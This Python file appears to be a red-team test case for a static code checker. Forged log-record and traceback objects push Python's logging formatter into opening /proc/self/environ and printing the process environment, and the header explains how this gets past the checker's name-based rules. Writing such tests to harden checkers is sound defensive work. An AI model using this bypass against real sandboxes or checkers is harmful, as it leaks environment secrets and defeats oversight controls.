# expect: reject method
# line: 67
# verified: eighth static red team, ok_13 (plain python3 3.11, temp dir: goal reached)
#
# Mechanism: forged traceback through a program-made log record: logging's Handler.handle / Logger.handle accept any object as the record; the program's Rec answers 'exc_info' from __getattr__ (dunder-define allowed; the name exc_info is never spelled), so Formatter.format calls formatException on a forged (type, value, tb) triple; traceback walks tb.tb_frame.f_code.co_filename (all answered by __getattr__ or plain attributes) and linecache opens that path. The checker closes exc_info=, LogRecord's 7th argument, formatException and record.exc_info, but not handing a program object to handle(). (co_filename = /proc/self/environ)
# Goal reached: the process environment printed (PATH, HOME, MARKER) by reading /proc/self/environ
# Output under python3 (3.11, throw-away temp dir):
#   hello
#   Traceback (most recent call last):
#     File "/proc/self/environ", line 1, in pwned
#       PATH=/usr/bin:/bin
#   HOME=<the temp dir>
#   MARKER=round8-marker
#   
#   ValueError: v

import logging


class Code:
    def __init__(self):
        self.co_filename = "/proc/self/environ"
        self.co_name = "pwned"


class Frame:
    def __getattr__(self, name):
        if name.endswith("code"):
            return Code()
        if name.endswith("globals"):
            return {}
        return None


class Tb:
    def __init__(self, n):
        self.n = n

    def __getattr__(self, name):
        if name.endswith("frame"):
            return Frame()
        if name.endswith("lasti"):
            return -1
        if name.endswith("lineno"):
            return self.n
        if name.endswith("next") and self.n < 1:
            return Tb(self.n + 1)
        return None


class Rec:
    def __init__(self):
        self.name = "x"
        self.levelname = "ERROR"
        self.levelno = 40
        self.msg = "hello"

    def getMessage(self):
        return self.msg

    def __getattr__(self, name):
        if name.startswith("exc") and not name.endswith("text"):
            return (ValueError, ValueError("v"), Tb(1))
        return None


logging.getLogger("p").handle(Rec())
